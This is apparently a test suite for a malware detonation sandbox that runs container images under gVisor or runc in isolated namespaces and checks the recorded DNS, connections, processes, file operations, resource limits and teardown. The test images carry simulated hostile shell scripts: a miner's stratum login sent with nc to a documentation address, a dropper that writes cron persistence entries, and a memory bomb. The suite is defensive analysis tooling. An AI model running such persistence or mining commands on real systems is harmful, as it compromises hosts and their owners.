import { spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, readdirSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resolveLimits } from '../../src/config/limits.js';
import { listRunCgroups, parseCgroupMounts } from '../../src/detonate/cgroup.js';
import { checkNetworkPrerequisites } from '../../src/detonate/network/index.js';
import { findExecutable, runBounded } from '../../src/detonate/network/exec.js';
import { chooseRuntime, GvisorRuntime, RuncRuntime, RuntimeError, type Runtime } from '../../src/detonate/runtime/index.js';
import { behaviorFromSinkhole, detonateImage, mergeConnections, type DetonationResult } from '../../src/detonate/session.js';
import type { SinkholeEvent } from '../../src/detonate/sinkhole/events.js';
import { syscallMonitor } from '../../src/detonate/monitor/session-monitor.js';
import { BlobCache } from '../../src/image/cache.js';
import { openImageSource } from '../../src/image/open.js';
import type { ResolvedImage } from '../../src/image/types.js';
import { writeOciArchive, type EntrySpec } from '../support/image-builder.js';
import { repoRoot } from '../support/paths.js';

/*
 * Detonations never run in the host's namespaces. The outer test re-runs this file under
 * `unshare --net --mount --propagation private` with a tmpfs over /run (as network.test.ts does): the run's
 * namespaces, /run/netns mounts and runtime state live in a private mount namespace, and "the host" is a fresh,
 * empty network namespace. The inner suite refuses to run in the outer run's network namespace.
 */
const WALL_ENV = 'DETONATE_SESSION_TEST_WALL';

function ownNetns(): string {
  try {
    return readlinkSync('/proc/self/ns/net');
  } catch {
    return 'unknown';
  }
}

const outerNetns = process.env[WALL_ENV];
const inWall = outerNetns !== undefined;
const isRoot = typeof process.getuid === 'function' && process.getuid() === 0;
const prereq = checkNetworkPrerequisites();
const unshare = findExecutable('unshare');
const busybox = ['/bin/busybox', '/usr/bin/busybox'].find((p) => existsSync(p));
const outerSkip = !isRoot
  ? 'needs root'
  : !prereq.ok
    ? prereq.message
    : !unshare
      ? '`unshare` not found: install util-linux'
      : !busybox
        ? 'busybox-static not installed (apt-get install busybox-static)'
        : undefined;
const innerSkip = ownNetns() === outerNetns || ownNetns() === 'unknown' ? 'refusing: still in the host network namespace' : outerSkip;

// ---------------------------------------------------------------------------------------------------------
// Pure parts (no root, no namespaces)

describe('detonation session: pure parts', () => {
  it('turns sinkhole events into the report contract: dns names and connections with dst, host and protocol', () => {
    const from = { address: '10.213.0.2', port: 40000 };
    const fb = (text: string) => ({ text, base64: Buffer.from(text).toString('base64'), length: text.length });
    const base = { kind: 'connection' as const, proto: 'tcp' as const, localPort: 9999, remote: from, bytesIn: 10, durationMs: 5, closedBy: 'peer' };
    const events: SinkholeEvent[] = [
      { kind: 'dns', name: 'pool.example.test', type: 'A', transport: 'udp', from, at: 1 },
      { kind: 'dns', name: 'pool.example.test', type: 'AAAA', transport: 'udp', from, at: 1 },
      { kind: 'dns', name: 'pool.example.test', type: 'A', transport: 'udp', from, at: 2 },
      {
        ...base,
        originalDst: { address: '10.213.0.1', port: 3333 },
        firstBytes: fb('{"id":1,"method":"login"}'),
        at: 3,
        protocol: 'stratum',
        details: { methods: ['login'], wallet: 'w', password: null, agent: null, algo: [], rigId: null, jobSent: true },
      },
      {
        ...base,
        originalDst: { address: '203.0.113.7', port: 80 },
        firstBytes: fb('GET / HTTP/1.1'),
        at: 4,
        protocol: 'http',
        details: { requests: [{ method: 'GET', path: '/', version: '1.1', host: 'c2.example.com:80', userAgent: null, headers: [], bodyPreview: null }] },
      },
      { ...base, originalDst: null, firstBytes: fb(''), at: 5, protocol: 'unknown', details: { silent: true, bannerSent: null } },
    ];
    const b = behaviorFromSinkhole(events, '10.213.0.1');
    expect(b.dns).toEqual([
      { name: 'pool.example.test', type: 'A', pid: null },
      { name: 'pool.example.test', type: 'AAAA', pid: null },
    ]);
    expect(b.connections).toEqual([
      { proto: 'tcp', dst: '10.213.0.1', port: 3333, host: 'pool.example.test', firstBytes: '{"id":1,"method":"login"}', protocol: 'stratum' },
      { proto: 'tcp', dst: '203.0.113.7', port: 80, host: 'c2.example.com', firstBytes: 'GET / HTTP/1.1', protocol: 'http' },
      { proto: 'tcp', dst: '10.213.0.1', port: 9999, firstBytes: '', protocol: 'unknown' },
    ]);
  });

  it('adds the monitor\'s connect attempts the sinkhole has no record of, never failed ones or resolver lookups', () => {
    const sink = [{ proto: 'tcp' as const, dst: '203.0.113.7', port: 3333, firstBytes: 'x', protocol: 'stratum' as const }];
    const merged = mergeConnections(
      sink,
      [
        { proto: 'tcp', dst: '203.0.113.7', port: 3333, ok: true },
        { proto: 'udp', dst: '10.213.0.1', port: 53, ok: true },
        { proto: 'tcp', dst: '198.51.100.9', port: 22, ok: false },
        { proto: 'udp', dst: '192.0.2.53', port: 53 },
        { proto: 'udp', dst: '192.0.2.53', port: 53, ok: true },
      ],
      '10.213.0.1',
    );
    expect(merged).toEqual([...sink, { proto: 'udp', dst: '192.0.2.53', port: 53, firstBytes: '', protocol: 'unknown' }]);
  });

  it('reads the recorded traces back: runc (strace around the full runc path) and gVisor (the JSON boot log)', async () => {
    const fixture = (name: string) => join(repoRoot, 'src/detonate/monitor/testdata', name);
    const dir = mkdtempSync(join(tmpdir(), 'detonate-monitor-'));
    try {
      const ctx = { id: 'm1', traceDir: dir, bundleDir: dir, startedAt: 0 };
      // the runtime starts runc by its full path, so runc's re-exec is `/usr/sbin/runc init`
      writeFileSync(join(dir, 'strace.txt'), readFileSync(fixture('runc-strace.txt'), 'utf8').replaceAll('["runc", "init"]', '["/usr/sbin/runc", "init"]'));
      const runc = syscallMonitor({ strace: '/usr/bin/strace' });
      const request = (await runc.prepare!({ ...ctx, runtime: 'runc' }))!;
      expect(request.wrapper?.slice(0, 2)).toEqual(['/usr/bin/strace', '-f']);
      expect(request.wrapper).toContain(join(dir, 'strace.txt'));
      expect(request.wrapper?.at(-1)).toBe('--');
      const gvisor = syscallMonitor();
      const flags = (await gvisor.prepare!({ ...ctx, runtime: 'gvisor' }))!.runtimeFlags!;
      expect(flags).toEqual(expect.arrayContaining(['--strace', '--debug-log-format=json']));
      writeFileSync(join(dir, 'runsc.log.20261130-153600.000000.boot.txt'), readFileSync(fixture('gvisor-boot.json.log')));
      for (const [monitor, runtime] of [[runc, 'runc'], [gvisor, 'gvisor']] as const) {
        const found = (await monitor.collect!({ ...ctx, runtime }))!;
        expect(found.processes!.find((p) => p.exe === '/tmp/x'), runtime).toMatchObject({ argv: ['/tmp/x'] });
        const ops = found.files!.map((f) => `${f.op} ${f.path}${f.to ? ` ${f.to}` : ''}`);
        for (const op of ['create /tmp/x', 'chmod /tmp/x', 'delete /tmp/junk', 'create /etc/crontab', 'rename /tmp/x /tmp/y']) expect(ops, runtime).toContain(op);
        expect(found.connections, runtime).toContainEqual(expect.objectContaining({ proto: 'tcp', dst: '203.0.113.7', port: 4444, ok: false }));
      }
      // collect without a prepare for the run (runc without strace) reports nothing
      expect(await syscallMonitor().collect!({ ...ctx, runtime: 'runc' })).toEqual({});
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('reads the cgroup layout from mountinfo: v1 hierarchies, co-mounted controllers, the unified mount', () => {
    const info = [
      '30 25 0:26 / /sys/fs/cgroup/memory rw,relatime shared:9 - cgroup cgroup rw,memory',
      '31 25 0:27 / /sys/fs/cgroup/cpu,cpuacct rw,relatime shared:10 - cgroup cgroup rw,cpu,cpuacct',
      '32 25 0:28 / /sys/fs/cgroup/systemd rw - cgroup cgroup rw,xattr,name=systemd',
      '33 25 0:29 / /sys/fs/cgroup/unified rw - cgroup2 cgroup2 rw',
      'garbage line',
    ].join('\n');
    const l = parseCgroupMounts(info);
    expect(l.v1.get('memory')).toBe('/sys/fs/cgroup/memory');
    expect(l.v1.get('cpu')).toBe('/sys/fs/cgroup/cpu,cpuacct');
    expect(l.v1.get('cpuacct')).toBe('/sys/fs/cgroup/cpu,cpuacct');
    expect(l.v1Mounts).toHaveLength(3);
    expect(l.unified).toBe('/sys/fs/cgroup/unified');
  });

  it('auto picks gVisor over runc, falls back to runc, never to anything weaker, and says how to install', async () => {
    const fake = (name: 'gvisor' | 'runc', ok: boolean): Runtime => ({
      name,
      available: () => Promise.resolve(ok ? { ok } : { ok, reason: `${name} missing` }),
      run: () => Promise.reject(new Error('not here')),
      cleanup: () => Promise.resolve(),
    });
    expect((await chooseRuntime('auto', { candidates: [fake('gvisor', true), fake('runc', true)] })).name).toBe('gvisor');
    expect((await chooseRuntime('auto', { candidates: [fake('gvisor', false), fake('runc', true)] })).name).toBe('runc');
    await expect(chooseRuntime('gvisor', { candidates: [fake('gvisor', false), fake('runc', true)] })).rejects.toThrow(/gvisor missing/);
    const none = chooseRuntime('auto', { candidates: [fake('gvisor', false), fake('runc', false)] });
    await expect(none).rejects.toBeInstanceOf(RuntimeError);
    await expect(none).rejects.toMatchObject({ hint: expect.stringMatching(/apt-get install runsc runc.*scripts\/install\.sh/) });
    const missing = await new GvisorRuntime({ binary: '/nonexistent/runsc' }).available();
    expect(missing.ok).toBe(false);
  });
});

// ---------------------------------------------------------------------------------------------------------
// The wall

const outerDescribe = inWall ? () => undefined : describe.skipIf(outerSkip !== undefined);
const innerDescribe = inWall ? describe.skipIf(innerSkip !== undefined) : () => undefined;

outerDescribe(`detonation session: suite inside unshare --net --mount${outerSkip ? ` (skipped: ${outerSkip})` : ''}`, () => {
  it('passes in a fresh network and mount namespace', async () => {
    const vitest = join(repoRoot, 'node_modules', 'vitest', 'vitest.mjs');
    const r = await runBounded(
      unshare!,
      [
        '--net', '--mount', '--propagation', 'private', '--',
        'sh', '-c', 'mount -t tmpfs -o mode=0755 detonate-test-run /run && exec "$@"', 'sh',
        process.execPath, vitest, 'run', 'test/detonate/session.test.ts', '--reporter=verbose',
      ],
      { cwd: repoRoot, env: { ...process.env, [WALL_ENV]: ownNetns(), CI: 'true', NO_COLOR: '1' }, timeoutMs: 280_000, maxOutputBytes: 4 * 1024 * 1024 },
    );
    // eslint-disable-next-line no-control-regex
    const output = `${r.stdout}\n${r.stderr}`.replace(/\u001b\[[0-9;]*m/g, '');
    for (const line of output.split('\n')) if (line.includes('[timing]') || line.includes('[skip]')) console.log(line.trim());
    expect(r.code, output.slice(-20000)).toBe(0);
    const wallLines = output.split('\n').filter((l) => /^\s*[✓×↓]/.test(l) && l.includes('detonation session: in the wall'));
    expect(wallLines.filter((l) => l.trimStart().startsWith('×')), output.slice(-20000)).toEqual([]);
    expect(wallLines.filter((l) => l.trimStart().startsWith('✓')).length, output.slice(-20000)).toBe(8);
  }, 300_000);
});

/** A busybox-static image: the binary plus a symlink per applet (not `busybox` itself), running `script`. */
async function busyboxImage(archive: string, script: string): Promise<void> {
  const applets = (await runBounded(busybox!, ['--list'])).stdout.split('\n').map((a) => a.trim()).filter((a) => a && a !== 'busybox' && /^[a-z0-9_.[-]+$/.test(a));
  const entries: EntrySpec[] = [
    ...['bin/', 'etc/', 'tmp/', 'proc/', 'sys/', 'dev/', 'root/'].map((name) => ({ name, type: 'directory' as const, mode: name === 'tmp/' ? 0o1777 : 0o755 })),
    { name: 'bin/busybox', content: readFileSync(busybox!), mode: 0o755 },
    ...applets.map((a) => ({ name: `bin/${a}`, type: 'symlink' as const, linkname: 'busybox' })),
    { name: 'etc/passwd', content: 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n' },
    { name: 'etc/group', content: 'root:x:0:\nnogroup:x:65534:\n' },
  ];
  await writeOciArchive(archive, {
    layers: [{ entries }],
    config: { Cmd: ['/bin/sh', '-c', script], Env: ['PATH=/usr/sbin:/usr/bin:/sbin:/bin'], WorkingDir: '/' },
  });
}

function median(values: number[]): number {
  const s = [...values].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)]!;
}

function processesMentioning(needles: string[]): string[] {
  const out: string[] = [];
  for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
    if (Number(pid) === process.pid) continue;
    let cmd: string;
    try {
      cmd = readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0').join(' ');
    } catch {
      continue;
    }
    if (needles.some((n) => cmd.includes(n))) out.push(`${pid}: ${cmd.slice(0, 200)}`);
  }
  return out;
}

innerDescribe(`detonation session: in the wall${innerSkip ? ` (skipped: ${innerSkip})` : ''}`, () => {
  let work: string;
  let stateRoot: string;
  const images: Record<'benign' | 'miner' | 'stubborn' | 'membomb' | 'dropper', ResolvedImage> = {} as never;
  const closers: Array<() => Promise<void>> = [];
  const runtimes: Runtime[] = [];
  const unusable: string[] = [];
  const sinkAddresses: string[] = [];
  let seq = 0;

  beforeAll(async () => {
    await runBounded('ip', ['link', 'set', 'lo', 'up']);
    work = mkdtempSync(join(tmpdir(), 'detonate-session-'));
    // runc's sandbox user (uid 100000) must traverse to its bundle
    chmodSync(work, 0o711);
    stateRoot = join('/run', `detonate-test-${process.pid}`);
    const scripts = {
      benign: 'echo hello-from-sample; exit 0',
      miner: [
        'nslookup pool.example.test || echo nslookup-failed',
        `printf '%s\\n' '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44wallet.test","pass":"x","agent":"XMRig/6.21.0"}}' | nc -w 2 203.0.113.7 3333`,
        'echo miner-done',
      ].join('; '),
      stubborn: "trap '' TERM; echo spinning; while :; do :; done",
      membomb: 'echo allocating; dd if=/dev/zero of=/dev/null bs=400M count=1; rc=$?; echo dd-rc=$rc; exit $rc',
      dropper: [
        `printf '#!/bin/sh\\necho dropped-ran "$@"\\n' > /tmp/x`,
        'chmod +x /tmp/x',
        '/tmp/x arg1 arg2',
        'echo junk > /tmp/victim',
        'rm /tmp/victim',
        "echo '* * * * * root /tmp/x' > /var/tmp/crontab",
        "(echo '* * * * * root /tmp/x' > /etc/crontab) 2>/dev/null || echo etc-read-only",
        'echo dropper-done',
      ].join('; '),
    };
    for (const [name, script] of Object.entries(scripts)) {
      const archive = join(work, `${name}.tar`);
      await busyboxImage(archive, script);
      const limits = resolveLimits();
      const source = await openImageSource(`oci-archive:${archive}`, { limits, cache: new BlobCache(join(work, 'cache')), insecureRegistries: [], platformExplicit: false });
      closers.push(() => source.close());
      images[name as keyof typeof images] = (await source.resolve({ os: 'linux', architecture: 'amd64' }))[0]!;
    }
    for (const r of [new GvisorRuntime({ stateRoot }), new RuncRuntime({ stateRoot })]) {
      const a = await r.available();
      if (a.ok) runtimes.push(r);
      else unusable.push(`${r.name}: ${a.reason}`);
    }
    for (const u of unusable) console.log(`[skip] ${u}`);
  });

  afterAll(async () => {
    for (const c of closers) await c().catch(() => undefined);
    rmSync(work, { recursive: true, force: true });
  });

  async function detonate(runtime: Runtime, image: ResolvedImage, timeoutMs = 20_000): Promise<DetonationResult> {
    const r = await detonateImage(image, {
      runtime,
      timeoutMs,
      workDir: join(work, 'runs'),
      id: `t${process.pid}-${seq++}`,
      limits: { memoryBytes: 256 * 1024 * 1024, pids: 128, cpus: 1 },
    });
    sinkAddresses.push(r.network.sinkAddress);
    return r;
  }

  it('runs a benign image to exit 0 under each runtime, and measures first exec and teardown (median of 5)', async () => {
    expect(runtimes.length, unusable.join('; ')).toBeGreaterThan(0);
    for (const runtime of runtimes) {
      const firstExec: number[] = [];
      const teardown: number[] = [];
      const setup: number[] = [];
      for (let i = 0; i < 5; i++) {
        const r = await detonate(runtime, images.benign);
        expect(r.exitCode, `${runtime.name}: ${r.runtimeLog ?? ''} ${r.output.stderr}`).toBe(0);
        expect(r.timedOut).toBe(false);
        expect(r.sandbox).toBe(runtime.name);
        expect(r.output.stdout).toBe('hello-from-sample\n');
        expect(r.dns).toEqual([]);
        expect(r.connections).toEqual([]);
        expect(r.processes.map((p) => p.exe), runtime.name).toContain('/bin/sh');
        expect(r.memory.peakBytes).toBeGreaterThan(0);
        expect(r.timings.firstExecMs).toBeGreaterThan(0);
        firstExec.push(r.timings.firstExecMs!);
        teardown.push(r.timings.teardownMs);
        setup.push(r.timings.setupMs);
      }
      console.log(
        `[timing] ${runtime.name}: first exec median ${median(firstExec)} ms (${firstExec.join(', ')}); teardown median ${median(teardown)} ms (${teardown.join(', ')}); setup median ${median(setup)} ms`,
      );
    }
  }, 180_000);

  it('records the DNS lookup of pool.example.test and a stratum login to 203.0.113.7:3333', async () => {
    for (const runtime of runtimes) {
      const r = await detonate(runtime, images.miner);
      const why = `${runtime.name}: ${JSON.stringify({ out: r.output, log: r.runtimeLog, events: r.sinkhole.events }).slice(0, 3000)}`;
      expect(r.exitCode, why).toBe(0);
      expect(r.output.stdout, why).toContain('miner-done');
      expect(r.dns, why).toContainEqual({ name: 'pool.example.test', type: 'A', pid: null });
      const stratum = r.connections.find((c) => c.protocol === 'stratum');
      expect(stratum, why).toMatchObject({ proto: 'tcp', dst: '203.0.113.7', port: 3333, protocol: 'stratum' });
      expect(stratum!.firstBytes).toContain('"method":"login"');
      const details = r.sinkhole.events.find((e) => e.kind === 'connection' && e.protocol === 'stratum');
      expect(details).toMatchObject({ details: { wallet: '44wallet.test', agent: 'XMRig/6.21.0' } });
    }
  }, 120_000);

  it('kills a process that ignores SIGTERM at a 3 s deadline', async () => {
    for (const runtime of runtimes) {
      const started = performance.now();
      const r = await detonate(runtime, images.stubborn, 3000);
      const wall = performance.now() - started;
      const why = `${runtime.name}: ${JSON.stringify({ out: r.output, log: r.runtimeLog, ms: r.durationMs })}`;
      expect(r.timedOut, why).toBe(true);
      expect(r.killedBy, why).toBe('deadline');
      expect(r.exitCode, why).not.toBe(0);
      expect(r.durationMs, why).toBeGreaterThanOrEqual(2900);
      expect(r.durationMs, why).toBeLessThan(9000);
      expect(r.output.stdout).toContain('spinning');
      // the busy loop ran against a 1-core quota
      expect(r.cpu.seconds, why).toBeGreaterThan(1);
      expect(r.cpu.peakCores, why).toBeLessThanOrEqual(1.3);
      console.log(`[timing] ${runtime.name}: deadline run ${Math.round(r.durationMs)} ms, whole detonation ${Math.round(wall)} ms, cpu ${r.cpu.seconds} s, peak ${r.cpu.peakCores} cores`);
    }
  }, 60_000);

  it('lets a monitor add runtime flags or a wrapper and read its traces before teardown', async () => {
    const strace = findExecutable('strace');
    for (const runtime of runtimes) {
      if (runtime.name === 'runc' && !strace) {
        console.log('[skip] runc monitor hook: strace not installed');
        continue;
      }
      let seen = '';
      const r = await detonateImage(images.benign, {
        runtime,
        timeoutMs: 20_000,
        workDir: join(work, 'runs'),
        id: `t${process.pid}-${seq++}`,
        command: ['/bin/sh', '-c', '/bin/true x; /bin/echo traced'],
        monitor: {
          prepare: (ctx) =>
            ctx.runtime === 'gvisor'
              ? { runtimeFlags: ['--strace', '--strace-syscalls=execve'] }
              : { wrapper: [strace!, '-f', '-qq', '-e', 'trace=execve', '-o', join(ctx.traceDir, 'strace.out'), '--'] },
          collect: (ctx) => {
            for (const f of readdirSync(ctx.traceDir)) seen += readFileSync(join(ctx.traceDir, f), 'utf8');
            return { processes: [{ pid: 1, ppid: 0, exe: '/bin/sh', argv: ['/bin/sh'], startMs: 0 }] };
          },
        },
      });
      sinkAddresses.push(r.network.sinkAddress);
      expect(r.exitCode, `${runtime.name}: ${r.runtimeLog ?? ''}`).toBe(0);
      expect(r.processes).toHaveLength(1);
      expect(r.output.stdout).toBe('traced\n');
      expect(seen, runtime.name).toMatch(/execve\(.*\/bin\/true/);
    }
  }, 60_000);

  it('lists the processes (with argv) and file operations of a dropper under each runtime', async () => {
    for (const runtime of runtimes) {
      const r = await detonate(runtime, images.dropper);
      const why = `${runtime.name}: ${JSON.stringify({ out: r.output, log: r.runtimeLog, processes: r.processes, files: r.files }).slice(0, 6000)}`;
      expect(r.exitCode, why).toBe(0);
      expect(r.output.stdout, why).toContain('dropped-ran arg1 arg2');
      expect(r.output.stdout, why).toContain('dropper-done');
      const dropped = r.processes.find((p) => p.exe === '/tmp/x');
      expect(dropped, why).toMatchObject({ argv: ['/tmp/x', 'arg1', 'arg2'] });
      expect(r.processes.map((p) => p.pid), why).toContain(dropped!.ppid);
      const ops = r.files.map((f) => `${f.op} ${f.path}`);
      for (const op of ['create /tmp/x', 'chmod /tmp/x', 'create /tmp/victim', 'delete /tmp/victim', 'create /var/tmp/crontab']) expect(ops, why).toContain(op);
      // runc's root is read-only: the attempt fails and is not a file operation
      if (runtime.name === 'gvisor') expect(ops, why).toContain('create /etc/crontab');
      else {
        expect(r.output.stdout, why).toContain('etc-read-only');
        expect(ops.filter((o) => o.endsWith(' /etc/crontab')), why).toEqual([]);
      }
      expect(r.files.every((f) => f.pid > 0), why).toBe(true);
      expect(ops.filter((o) => o.includes('/dev/')), why).toEqual([]);
      console.log(`[timing] ${runtime.name}: dropper traced in ${r.durationMs} ms: ${JSON.stringify(r.processes.map((p) => [p.pid, p.ppid, p.argv.join(' ').slice(0, 40)]))} ${ops.join(', ')} ${JSON.stringify(r.connections)}`);
    }
  }, 90_000);

  it('reports a memory bomb stopped by the memory limit', async () => {
    for (const runtime of runtimes) {
      const r = await detonate(runtime, images.membomb, 15_000);
      const why = `${runtime.name}: ${JSON.stringify({ out: r.output, log: r.runtimeLog, exit: r.exitCode, killedBy: r.killedBy, mem: r.memory })}`;
      expect(r.timedOut, why).toBe(false);
      expect(r.output.stdout, why).toContain('allocating');
      // the kernel counts in pages: the peak may pass the limit by a page or so
      expect(r.memory.peakBytes, why).toBeLessThanOrEqual(257 * 1024 * 1024);
      expect(r.memory.peakBytes, why).toBeGreaterThan(200 * 1024 * 1024);
      expect(r.killedBy, why).toBe('memory');
      expect(r.limitsHit.oomKills, why).toBeGreaterThan(0);
      expect(r.exitCode, why).not.toBe(0);
    }
  }, 60_000);

  it('tears everything down when the detonating process gets SIGTERM during the run, then dies of it', async () => {
    const script = join(work, 'interrupt.mts');
    writeFileSync(
      script,
      `import { detonateImage } from ${JSON.stringify(join(repoRoot, 'src/detonate/session.ts'))};
import { GvisorRuntime, RuncRuntime } from ${JSON.stringify(join(repoRoot, 'src/detonate/runtime/index.ts'))};
import { openImageSource } from ${JSON.stringify(join(repoRoot, 'src/image/open.ts'))};
import { BlobCache } from ${JSON.stringify(join(repoRoot, 'src/image/cache.ts'))};
import { resolveLimits } from ${JSON.stringify(join(repoRoot, 'src/config/limits.ts'))};
const [archive, name, workDir, stateRoot, id] = process.argv.slice(2);
const source = await openImageSource('oci-archive:' + archive, { limits: resolveLimits(), cache: new BlobCache(workDir + '/cache-' + id), insecureRegistries: [], platformExplicit: false });
const [image] = await source.resolve({ os: 'linux', architecture: 'amd64' });
const runtime = name === 'gvisor' ? new GvisorRuntime({ stateRoot }) : new RuncRuntime({ stateRoot });
await detonateImage(image, { runtime, workDir: workDir + '/runs', id, timeoutMs: 60000, monitor: { prepare: () => void console.log('RUNNING') } });
console.log('FINISHED');
`,
    );
    const loader = pathToFileURL(createRequire(import.meta.url).resolve('tsx')).href;
    for (const runtime of runtimes) {
      const id = `t${process.pid}-${seq++}`;
      const child = spawn(process.execPath, ['--import', loader, script, join(work, 'stubborn.tar'), runtime.name, work, stateRoot, id], {
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let out = '';
      child.stdout.on('data', (c: Buffer) => (out += c.toString()));
      child.stderr.on('data', (c: Buffer) => (out += c.toString()));
      const exited = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((r) => child.once('exit', (code, signal) => r({ code, signal })));
      for (let i = 0; i < 300 && !out.includes('RUNNING'); i++) await new Promise((r) => setTimeout(r, 50));
      expect(out, `${runtime.name}: ${out}`).toContain('RUNNING');
      await new Promise((r) => setTimeout(r, 700));
      expect((await runBounded('ip', ['netns', 'list'])).stdout).toContain(`detonate-${id}-sample`);
      const sentAt = performance.now();
      child.kill('SIGTERM');
      const end = await exited;
      const ms = performance.now() - sentAt;
      console.log(`[timing] ${runtime.name}: SIGTERM to exit, teardown included: ${Math.round(ms)} ms`);
      expect(end, `${runtime.name}: ${out}`).toEqual({ code: null, signal: 'SIGTERM' });
      expect(out).not.toContain('FINISHED');
      expect(ms).toBeLessThan(15_000);
      expect((await runBounded('ip', ['netns', 'list'])).stdout).not.toContain(id);
      expect((await listRunCgroups()).filter((p) => p.includes(id))).toEqual([]);
      expect(processesMentioning([join(work, 'runs'), join(stateRoot, 'runsc', id), join(stateRoot, 'runc', id)])).toEqual([]);
    }
  }, 90_000);

  it('leaves nothing behind: no namespaces, cgroups, mounts, runtime state or processes', async () => {
    expect(seq).toBeGreaterThan(0);
    const netns = (await runBounded('ip', ['netns', 'list'])).stdout;
    expect(netns).not.toMatch(/detonate-/);
    expect((await listRunCgroups()).filter((p) => p.includes(`/t${process.pid}-`))).toEqual([]);
    const mounts = readFileSync('/proc/self/mountinfo', 'utf8').split('\n').filter((l) => l.includes(work));
    expect(mounts).toEqual([]);
    for (const dir of ['runsc', 'runc']) {
      const p = join(stateRoot, dir);
      expect(existsSync(p) ? readdirSync(p) : []).toEqual([]);
    }
    expect(existsSync(join(work, 'runs')) ? readdirSync(join(work, 'runs')) : []).toEqual([]);
    const sinkNeedles = sinkAddresses.map((a) => `"host":"${a}"`);
    expect(processesMentioning([work, stateRoot, ...sinkNeedles])).toEqual([]);
  });
});
